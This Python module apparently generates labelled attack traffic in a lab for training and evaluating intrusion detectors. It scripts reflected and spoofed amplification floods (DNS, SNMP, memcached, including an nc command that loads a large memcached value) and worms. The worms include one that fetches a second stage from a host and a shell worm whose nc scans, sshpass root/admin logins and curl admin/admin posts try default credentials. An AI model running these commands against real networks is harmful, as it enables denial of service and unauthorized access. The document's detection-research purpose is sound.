"""Amplification and spreading: reflectors' answers to a victim, and a worm that tries addresses and exploits."""

import ipaddress

from ..plan import Activity
from ..truth import Match
from .attack_scan import whole

REFLECTING = {"dns": 53, "snmp": 161, "memcached": 11211}


def answers(plan, attacker, victim, kind, rate, count, net):
    """What `count` reflectors in `net` send a victim that never asked; closed ports complain by ICMP, so the row names no port."""
    def body(stage):
        stage.script("reflect.py", "answers", stage.ip(victim), stage.left() - 1, stage.rng.random(), kind, rate, net, count)
    return Activity(f"answers {kind} {rate}/s x{count} {attacker}->{victim}", f"reflect-{kind}", "amplification", attacker,
                    [Match(src=net, dst=plan.ip(victim))], body, linger_s=3.0)


def questions(plan, attacker, prey, kind, rate, servers):
    """Questions in the prey's name to real servers of the site; `prey` asks nothing itself."""
    def body(stage):
        if kind == "memcached":  # something worth asking for
            stage.run("nc", "-w", "1", stage.ip(servers[0]), 11211, feed="set bulk 0 0 20000\r\n" + "x" * 20000 + "\r\n")
        stage.script("reflect.py", "questions", stage.ip(prey), stage.left() - 1, stage.rng.random(), kind, rate, ",".join(stage.ip(name) for name in servers))
    rows = [Match(src=plan.ip(prey), dst=plan.ip(name)) for name in servers]
    if kind == "memcached":
        rows.append(Match(src=plan.ip(attacker), dst=plan.ip(servers[0]), dst_port="11211", protocol="tcp"))
    return Activity(f"questions {kind} {rate}/s {attacker}->{prey}", f"reflected-{kind}", "amplification", attacker, rows, body, linger_s=4.0)


def worm(plan, bot, network, ports, rate, workers, lair=None):
    """Our own worm in a whole network. Fetching its second stage from `lair` is part of it."""
    def body(stage):
        stage.script("worm.py", network, stage.left() - 1, stage.rng.random(), "--ports", ports, "--rate", rate, "--workers", workers,
                     *(["--lair", f"http://{stage.ip(lair)}:8000"] if lair else []))
    rows = whole(plan, bot, network)
    if lair:
        rows.insert(0, Match(src=plan.ip(bot), dst=plan.ip(lair), dst_port="8000", protocol="tcp"))
    return Activity(f"worm {ports} at {rate}/s {bot}->{network}", "worm.py", "spread", bot, rows, body, linger_s=3.0)


def shell_worm(plan, bot, network, port, workers):
    """A worm in a few lines of shell: nc knocks, curl or sshpass tries what opened."""
    attempt = {80: "curl -s -m 3 -o /dev/null -d 'user=admin&password=admin' http://$1:80/login; curl -s -m 3 -o /dev/null http://$1/cgi-bin/luci",
               22: "sshpass -p admin ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no "
                   "-o NumberOfPasswordPrompts=1 root@$1 true",
               6379: "printf 'CONFIG GET dir\\r\\n' | nc -w 1 $1 6379"}[port]

    def body(stage):
        addresses = [str(host) for host in ipaddress.ip_network(network).hosts()]
        stage.rng.shuffle(addresses)
        stage.run("xargs", "-P", workers, "-n", "1", "sh", "-c", f"nc -z -w 1 $1 {port} && {{ {attempt}; }} 2>/dev/null", "worm", feed="\n".join(addresses) + "\n")
    return Activity(f"shell worm {port} {bot}->{network}", "worm.sh", "spread", bot, whole(plan, bot, network), body, linger_s=5.0)


def some_net(rng):
    """A /16 that no segment of the lab uses."""
    return f"{rng.choice([45, 61, 77, 91, 139, 185, 203])}.{rng.randint(1, 254)}.0.0/16"


def draw_amplification(rng, plan, attacker, victims, prey, servers):
    """A random amplification and its seconds. `servers` maps a kind to the site's real reflectors."""
    if rng.random() < 0.3:
        kind = rng.choice(["dns", "snmp"])
        return 20, questions(plan, attacker, prey, kind, rng.choice([30, 150, 500]), servers[kind])
    kind = rng.choice(["dns", "dns", "ntp", "ssdp", "snmp", "chargen"])
    return rng.choice([8, 15, 25]), answers(plan, attacker, rng.choice(victims), kind, rng.choice([20, 80, 250, 800]), rng.choice([1, 5, 40, 300]), some_net(rng))


def draw_amplification_held_out(rng, plan, attacker, victims, prey, servers):
    """The same by kinds that no training row has."""
    if rng.random() < 0.4:
        return 15, questions(plan, attacker, prey, "memcached", rng.choice([2, 10]), servers["memcached"])
    kind = rng.choice(["memcached", "cldap"])
    return 12, answers(plan, attacker, rng.choice(victims), kind, rng.choice([50, 300]), rng.choice([3, 40, 300]), some_net(rng))


def draw_spread(rng, plan, bot, network, lair):
    """A random worm and its seconds."""
    ports = rng.choice(["445", "445,139", "80,8080", "23,2323", "22", "6379", "80,22,445,23", "80,81,8080"])
    rate = rng.choice([2, 8, 30, 120])
    return rng.choice([20, 35]) if rate > 8 else 45, worm(plan, bot, network, ports, rate, rng.choice([1, 8, 32]), lair if rng.random() < 0.4 else None)


def draw_spread_held_out(rng, plan, bot, network):
    """The same by a tool that no training row has."""
    return 35, shell_worm(plan, bot, network, rng.choice([80, 22, 6379]), rng.choice([2, 8, 30]))
